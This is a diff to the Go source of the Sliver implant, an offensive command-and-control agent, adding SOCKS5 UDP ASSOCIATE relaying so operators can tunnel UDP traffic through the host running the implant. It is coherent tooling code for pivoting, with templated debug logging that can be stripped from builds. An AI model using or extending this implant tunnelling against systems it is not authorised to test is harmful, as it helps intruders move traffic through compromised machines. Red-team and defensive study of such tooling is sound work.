@@ -24,18 +24,22 @@ import (
 	"log"
 	// {{end}}
 
+	"context"
 	"errors"
+	"io"
 	"net"
 	"sync"
-	"sync/atomic"
 	"time"
 
 	"github.com/bishopfox/sliver/implant/sliver/transports"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/things-go/go-socks5"
+	"github.com/things-go/go-socks5/statute"
 	"google.golang.org/protobuf/proto"
 )
 
+const maxDatagramSize = 65535
+
 type socksTunnelPool struct {
 	tunnels *sync.Map // map[uint64]chan []byte
 }
@@ -46,6 +50,9 @@ var socksTunnels = socksTunnelPool{
 
 var socksServer *socks5.Server
 
+// map[uint64]*socksAssociation
+var socksAssociations = &sync.Map{}
+
 func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
 	socksData := &sliverpb.SocksData{}
 	err := proto.Unmarshal(envelope.Data, socksData)
@@ -55,6 +62,10 @@ func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		// {{end}}
 		return
 	}
+	if socksData.UDP || socksData.CloseConn {
+		socksDatagramHandler(socksData)
+		return
+	}
 	if socksData.Data == nil {
 		return
 	}
@@ -69,9 +80,12 @@ func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		auth := socks5.UserPassAuthenticator{Credentials: cred}
 		socksServer = socks5.NewServer(
 			socks5.WithAuthMethods([]socks5.Authenticator{auth}),
+			socks5.WithAssociateHandle(socksAssociateHandler),
 		)
 	} else {
-		socksServer = socks5.NewServer()
+		socksServer = socks5.NewServer(
+			socks5.WithAssociateHandle(socksAssociateHandler),
+		)
 	}
 
 	// {{if .Config.Debug}}
@@ -98,9 +112,9 @@ func SocksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 var _ net.Conn = &socks{}
 
 type socks struct {
-	stream *sliverpb.SocksData
-	conn   *transports.Connection
-	// mux      sync.Mutex
+	stream   *sliverpb.SocksData
+	conn     *transports.Connection
+	mux      sync.Mutex
 	Sequence uint64
 }
 
@@ -115,24 +129,36 @@ func (s *socks) Read(b []byte) (n int, err error) {
 }
 
 func (s *socks) Write(b []byte) (n int, err error) {
-	data, err := proto.Marshal(&sliverpb.SocksData{
-		TunnelID: s.stream.TunnelID,
-		Data:     b,
-		Sequence: atomic.LoadUint64(&s.Sequence),
-	})
-	if !s.conn.IsOpen {
+	err = s.send(&sliverpb.SocksData{Data: b})
+	if err != nil {
 		return 0, err
 	}
+	return len(b), nil
+}
+
+// send - TCP data and UDP datagrams share the tunnel's sequence, the server
+// forwards frames in sequence order
+func (s *socks) send(frame *sliverpb.SocksData) error {
+	s.mux.Lock()
+	defer s.mux.Unlock()
+	frame.TunnelID = s.stream.TunnelID
+	frame.Sequence = s.Sequence
+	data, err := proto.Marshal(frame)
+	if err != nil {
+		return err
+	}
+	if !s.conn.IsOpen {
+		return errors.New("{{if .Config.Debug}}[socks] connection closed{{end}}")
+	}
 	// {{if .Config.Debug}}
-	log.Printf("[socks] (implant to Server) to Client to User Data Sequence %d, Data Size %d Data %v\n", atomic.LoadUint64(&s.Sequence), len(b), b)
+	log.Printf("[socks] (implant to Server) to Client to User Data Sequence %d, Data Size %d, UDP %v\n", s.Sequence, len(frame.Data), frame.UDP)
 	// {{end}}
 	s.conn.Send <- &sliverpb.Envelope{
 		Type: sliverpb.MsgSocksData,
 		Data: data,
 	}
-
-	atomic.AddUint64(&s.Sequence, 1)
-	return len(b), err
+	s.Sequence++
+	return nil
 }
 
 func (s *socks) Close() error {
@@ -181,3 +207,99 @@ func (c *socks) SetReadDeadline(t time.Time) error {
 func (c *socks) SetWriteDeadline(t time.Time) error {
 	return nil
 }
+
+// socksAssociation - A UDP ASSOCIATE, the client relays the user's datagrams over
+// the socks tunnel so the implant only needs an unconnected udp socket
+type socksAssociation struct {
+	relay *net.UDPConn
+	done  chan struct{}
+	once  sync.Once
+}
+
+func (a *socksAssociation) Close() {
+	a.once.Do(func() {
+		close(a.done)
+		a.relay.Close()
+	})
+}
+
+func socksAssociateHandler(ctx context.Context, writer io.Writer, request *socks5.Request) error {
+	conn, ok := writer.(*socks)
+	if !ok {
+		return errors.New("{{if .Config.Debug}}[socks] associate on unknown connection{{end}}")
+	}
+	relay, err := net.ListenUDP("udp", nil)
+	if err != nil {
+		socks5.SendReply(writer, statute.RepServerFailure, nil)
+		return err
+	}
+	association := &socksAssociation{relay: relay, done: make(chan struct{})}
+	socksAssociations.Store(conn.stream.TunnelID, association)
+	defer func() {
+		socksAssociations.Delete(conn.stream.TunnelID)
+		association.Close()
+	}()
+
+	// An empty datagram tells the client to open its relay and reply to the user
+	err = conn.send(&sliverpb.SocksData{UDP: true})
+	if err != nil {
+		return err
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[socks] udp associate on %s", relay.LocalAddr())
+	// {{end}}
+	go func() {
+		buf := make([]byte, maxDatagramSize)
+		for {
+			n, remote, err := relay.ReadFromUDP(buf)
+			if err != nil {
+				return
+			}
+			datagram, err := statute.NewDatagram(remote.String(), buf[:n])
+			if err != nil {
+				continue
+			}
+			err = conn.send(&sliverpb.SocksData{UDP: true, Data: datagram.Bytes()})
+			if err != nil {
+				association.Close()
+				return
+			}
+		}
+	}()
+
+	// The association lasts until the user closes the control connection
+	<-association.done
+	return nil
+}
+
+// socksDatagramHandler - Datagrams from the user, or the client closing the
+// association's control connection
+func socksDatagramHandler(socksData *sliverpb.SocksData) {
+	value, ok := socksAssociations.Load(socksData.TunnelID)
+	if !ok {
+		return
+	}
+	association := value.(*socksAssociation)
+	if socksData.CloseConn {
+		association.Close()
+		return
+	}
+	datagram, err := statute.ParseDatagram(socksData.Data)
+	if err != nil || datagram.Frag != 0 {
+		// Fragmentation is optional (RFC 1928), fragments are dropped
+		return
+	}
+	addr, err := net.ResolveUDPAddr("udp", datagram.DstAddr.String())
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[socks] failed to resolve %s: %s", datagram.DstAddr.String(), err)
+		// {{end}}
+		return
+	}
+	_, err = association.relay.WriteToUDP(datagram.Data, addr)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[socks] failed to write datagram to %s: %s", addr, err)
+		// {{end}}
+	}
+}